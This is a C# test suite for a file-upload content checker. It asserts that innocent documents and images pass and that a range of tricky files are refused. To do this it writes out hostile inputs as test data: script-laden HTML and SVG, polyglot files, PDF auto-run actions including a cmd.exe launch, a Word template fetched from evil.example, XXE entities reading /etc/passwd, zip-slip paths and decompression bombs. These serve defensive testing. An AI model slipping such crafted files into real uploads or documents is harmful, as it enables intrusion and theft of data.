using System.IO.Compression;
using System.Text;
using Concord.Kernel.Files.Content;
using Concord.Tests.House;
using CsCheck;

namespace Concord.Kernel.Tests.Files;

/// <summary>What a file is, by its content; each trick with its refusal.</summary>
public sealed class ContentCheckTests
{
    public static readonly TheoryData<string, byte[]> Innocent = new()
    {
        { "Report.pdf", AFile.Pdf() },
        { "Доклад.docx", AFile.Docx() },
        { "数据.xlsx", AFile.Docx("1", AFile.Sheet) },
        { "note.ODT", AFile.Odt() },
        { "air.png", AFile.Png(chunks: ("tEXt", AFile.Utf8("Author\0Li Hua"))) },
        { "air.jpeg", AFile.Jpeg() },
        { "air.gif", AFile.Gif(comment: "made by hand") },
        { "air.webp", AFile.Webp(20, 10) },
        { "공기.txt", AFile.Utf8("맑은 공기\r\n\tЧистый воздух") },
        { "air.csv", AFile.Utf8("\uFEFFcity,pm2.5\nУланбаатар,41\n") },
        { "with chart.docx", AFile.Docx("x", ("word/embeddings/Workbook1.xlsx", AFile.Docx("1", AFile.Sheet))) },
    };

    [Theory]
    [MemberData(nameof(Innocent))]
    public void A_file_is_what_its_name_says(string name, byte[] file) => Assert.Equal(FileType.OfName(name), Examine(name, file).Type);

    [Fact]
    public void An_empty_file_is_refused() => Refused(FileFault.Empty, "a.pdf", []);

    [Theory]
    [InlineData("report.docx")]
    [InlineData("photo.jpg")]
    [InlineData("report.pdf.exe")]
    [InlineData("report")]
    public void A_PDF_under_another_name_is_refused(string name) =>
        Refused(FileType.OfName(name) is null ? FileFault.UnknownType : FileFault.NotWhatItsNameSays, name, AFile.Pdf());

    [Theory]
    [InlineData("tool.exe", "MZ\u0090\0\u0003")]
    [InlineData("tool.pdf", "MZ\u0090\0\u0003")]
    [InlineData("script.pdf", "#!/bin/sh\n")]
    public void A_program_is_refused_whatever_its_name(string name, string content) => Assert.NotNull(Examine(name, Encoding.Latin1.GetBytes(content)).Refusal);

    [Theory]
    [InlineData("page.html", "<html><script>alert(1)</script>")]
    [InlineData("page.txt", "  \n<!DOCTYPE html><p>x")]
    [InlineData("page.csv", "<script>alert(1)</script>,1")]
    [InlineData("drawing.svg", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")]
    [InlineData("drawing.png", "<?xml version='1.0'?><svg/>")]
    public void A_page_or_a_drawing_with_script_is_refused(string name, string content) => Refused(FileFault.IsMarkup, name, AFile.Utf8(content));

    [Fact]
    public void A_page_of_two_bytes_a_character_is_refused() => Refused(FileFault.IsMarkup, "page.txt", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("<script>alert(1)</script>")]);

    [Fact]
    public void An_archive_is_refused() => Refused(FileFault.UnknownType, "all.zip", AFile.Zip(("a.txt", "a"u8.ToArray())));

    [Fact]
    public void A_polyglot_of_PDF_and_ZIP_is_refused()
    {
        Refused(FileFault.HidesSomething, "a.pdf", [.. AFile.Pdf(), .. AFile.Zip(("a.txt", "a"u8.ToArray())), .. "\nstartxref\n0\n%%EOF"u8]);
        Refused(FileFault.HidesSomething, "a.docx", AFile.Zip([("a", AFile.Pdf())]) is var zip ? Stored(zip) : zip);
    }

    [Fact]
    public void A_polyglot_of_PDF_and_page_is_refused() => Refused(FileFault.HidesSomething, "a.pdf", [.. AFile.Pdf(), .. "<script>alert(1)</script>"u8]);

    [Fact]
    public void A_polyglot_of_GIF_and_script_is_refused() => Refused(FileFault.HidesSomething, "a.gif", AFile.Gif(0x2A2F, 1, after: "*/=1;alert(1)//"u8.ToArray()));

    [Fact]
    public void A_polyglot_of_JPEG_and_page_is_refused()
    {
        Refused(FileFault.HidesSomething, "a.jpg", AFile.Jpeg(4, 3, (0xFE, "<html><script>alert(1)</script>"u8.ToArray())));
        Refused(FileFault.HidesSomething, "a.jpg", [.. AFile.Jpeg(), .. "<HTML><body>"u8]);
    }

    [Fact]
    public void A_polyglot_of_an_image_and_ZIP_is_refused() => Refused(FileFault.HidesSomething, "a.png", [.. AFile.Png(), .. AFile.Zip(("a.js", "a"u8.ToArray()))]);

    [Theory]
    [InlineData("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")]
    [InlineData("/OpenAction << /S/Launch/F (cmd.exe) >>")]
    public void A_PDF_that_acts_by_itself_is_refused(string action) => Refused(FileFault.HasScript, "a.pdf", AFile.Pdf(more: action));

    [Fact]
    public void A_PDF_that_is_cut_off_is_refused() => Refused(FileFault.Damaged, "a.pdf", AFile.Pdf()[..^60]);

    [Fact]
    public void A_document_with_macros_is_refused()
    {
        Refused(FileFault.HasMacros, "a.docx", AFile.Docx("x", ("word/vbaProject.bin", [1, 2, 3])));
        Refused(FileFault.HasMacros, "a.docx", AFile.Docx("x", "application/vnd.ms-word.document.macroEnabled.main+xml"));
        Refused(FileFault.HasMacros, "a.odt", AFile.Odt("x", ("Basic/Standard/Module1.xml", "<a/>"u8.ToArray())));
    }

    [Fact]
    public void An_old_document_or_one_locked_with_a_password_is_refused() => Refused(FileFault.OldOrLocked, "a.doc", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0, 0]);

    [Fact]
    public void A_document_that_holds_a_program_is_refused()
    {
        Refused(FileFault.HoldsProgram, "a.docx", AFile.Docx("x", ("word/media/run.exe", [1])));
        Refused(FileFault.HoldsProgram, "a.docx", AFile.Docx("x", ("word/media/image1.png", "MZ\0"u8.ToArray())));
        Refused(FileFault.HoldsProgram, "a.docx", AFile.Docx("x", ("word/embeddings/oleObject1.bin", [1])));
        Refused(FileFault.HoldsProgram, "a.docx", AFile.Docx("x", ("word/activeX/activeX1.xml", "<a/>"u8.ToArray())));
    }

    [Fact]
    public void A_document_that_fetches_a_template_is_refused() => Refused(FileFault.LinksTemplate, "a.docx", AFile.Docx("x", ("word/_rels/settings.xml.rels",
        AFile.Utf8("<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>"))));

    [Theory]
    [InlineData("<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>")]
    [InlineData("<!DOCTYPE a [<!ENTITY x \"lol\"><!ENTITY y \"&x;&x;&x;\">]>")]
    public void A_document_that_declares_entities_is_refused(string declaration)
    {
        var part = "<?xml version=\"1.0\"?>" + declaration + "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">&x;</w:document>";
        Refused(FileFault.DeclaresEntities, "a.docx", AFile.Docx("", ("word/document.xml", AFile.Utf8(part))));
        Refused(FileFault.DeclaresEntities, "a.docx", AFile.Docx("", ("word/document.xml", [0xFE, 0xFF, .. Encoding.BigEndianUnicode.GetBytes(part)])));
    }

    [Fact]
    public void A_document_that_unpacks_to_far_more_is_refused()
    {
        Refused(FileFault.Expands, "a.docx", AFile.Docx("x", ("word/media/image1.bmp", new byte[8 << 20])));
        Refused(FileFault.Expands, "a.docx", AFile.Docx("x", [.. Enumerable.Range(0, 40).Select(n => ($"word/media/{n}.bmp", Noise(64 << 10)))]), new ContentLimits(Unpacked: 1 << 20));
    }

    [Fact]
    public void A_document_of_very_many_entries_is_refused() =>
        Refused(FileFault.Expands, "a.docx", AFile.Docx("x", [.. Enumerable.Range(0, 200).Select(n => ($"word/{n}.xml", Array.Empty<byte>()))]), new ContentLimits(Entries: 100));

    [Fact]
    public void A_document_that_says_less_than_it_unpacks_to_is_refused()
    {
        // The size of the one large entry, in the directory at the end and before the entry itself, is made small.
        var file = AFile.Docx("x", ("word/media/image1.bmp", Noise(1 << 20)));
        var size = BitConverter.GetBytes(1 << 20);
        for (var at = file.AsSpan().LastIndexOf(size); at >= 0; at = file.AsSpan().LastIndexOf(size))
            BitConverter.GetBytes(10).CopyTo(file, at);
        Assert.Contains(Examine("a.docx", file).Refusal!.Fault, new[] { FileFault.Expands, FileFault.Damaged });
    }

    [Fact]
    public void An_archive_within_a_document_is_refused()
    {
        var inner = AFile.Zip(("a", new byte[10]));
        Refused(FileFault.HoldsArchive, "a.docx", AFile.Docx("x", ("word/media/a.zip", inner)));
        Refused(FileFault.HoldsArchive, "a.docx", AFile.Docx("x", ("word/media/image1.png", inner)));
        var second = AFile.Docx("x", ("word/embeddings/b.docx", AFile.Docx("x", ("word/embeddings/c.docx", AFile.Docx()))));
        Refused(FileFault.HoldsArchive, "a.docx", second);
    }

    [Theory]
    [InlineData("../../etc/passwd")]
    [InlineData("/etc/passwd")]
    [InlineData("word\\..\\evil.xml")]
    [InlineData("C:evil.xml")]
    [InlineData("WORD/document.xml")]
    public void A_document_with_entries_that_lead_out_or_stand_twice_is_refused(string entry) => Refused(FileFault.HidesSomething, "a.docx", AFile.Docx("x", (entry, "<a/>"u8.ToArray())));

    [Fact]
    public void A_document_with_something_behind_its_end_is_refused() => Assert.NotNull(Examine("a.docx", [.. AFile.Docx(), .. "<script>"u8]).Refusal);

    [Fact]
    public void An_image_of_too_many_pixels_is_refused_by_its_header()
    {
        Refused(FileFault.TooManyPixels, "a.png", AFile.Png(60_000, 60_000));
        Refused(FileFault.TooManyPixels, "a.jpg", AFile.Jpeg(65_000, 65_000));
        Refused(FileFault.TooManyPixels, "a.gif", AFile.Gif(65_535, 65_535));
        Refused(FileFault.TooManyPixels, "a.webp", AFile.Webp(1 << 24, 1 << 24));
    }

    [Fact]
    public void An_image_that_is_cut_off_is_refused()
    {
        foreach (var (name, file) in new[] { ("a.png", AFile.Png()), ("a.jpg", AFile.Jpeg()), ("a.gif", AFile.Gif()), ("a.webp", AFile.Webp(2, 2)) })
            Refused(FileFault.Damaged, name, file[..^4]);
    }

    [Fact]
    public void A_PNG_with_a_wrong_check_sum_is_refused()
    {
        var file = AFile.Png();
        file[^20] ^= 1;
        Refused(FileFault.Damaged, "a.png", file);
    }

    [Theory]
    [InlineData(new byte[] { 0xCF, 0xF0, 0xE8, 0xE2, 0xE5, 0xF2 }, FileFault.NotUtf8)]
    [InlineData(new byte[] { 0x61, 0, 0x62 }, FileFault.Damaged)]
    [InlineData(new byte[] { 0x61, 0x1B, 0x5B }, FileFault.Damaged)]
    public void A_text_is_UTF8_without_control_characters(byte[] content, FileFault fault) => Refused(fault, "a.txt", content);

    [Fact]
    public void A_long_text_is_read_whole_wherever_its_characters_fall()
    {
        var text = AFile.Utf8("x" + string.Concat(Enumerable.Repeat("水", 70_000)));
        Assert.Equal(FileType.Text, Examine("a.txt", text).Type);
        Refused(FileFault.NotUtf8, "a.txt", [.. text, 0xE6]);
    }

    [Fact]
    public void Whatever_is_changed_in_a_file_the_answer_is_a_verdict()
    {
        Gen.Select(Gen.Int[0, Innocent.Count - 1], Gen.Int[0, 5000], Gen.Byte, Gen.Int[0, 100]).Sample((which, at, value, cut) =>
        {
            var (name, file) = Innocent.ElementAt(which).Data;
            var changed = file[..Math.Max(1, file.Length - (cut > 50 ? cut - 50 : 0))];
            changed[at % changed.Length] = value;
            var verdict = Examine(name, changed);
            Assert.True(verdict.Type is null != verdict.Refusal is null);
        }, iter: 3000);
    }

    private static byte[] Noise(int length)
    {
        var noise = new byte[length];
        new Random(1).NextBytes(noise);
        return noise;
    }

    /// <summary>An archive whose first entry is kept as it is, so that a reader of PDF finds it.</summary>
    private static byte[] Stored(byte[] _)
    {
        var file = new MemoryStream();
        using (var archive = new ZipArchive(file, ZipArchiveMode.Create, leaveOpen: true))
        using (var entry = archive.CreateEntry("a", CompressionLevel.NoCompression).Open())
            entry.Write(AFile.Pdf());
        return file.ToArray();
    }

    private static FileVerdict Examine(string name, byte[] file, ContentLimits? limits = null) => ContentCheck.Examine(new MemoryStream(file), name, limits ?? ContentLimits.Usual);

    private static void Refused(FileFault fault, string name, byte[] file, ContentLimits? limits = null) => Assert.Equal(fault, Examine(name, file, limits).Refusal?.Fault);
}
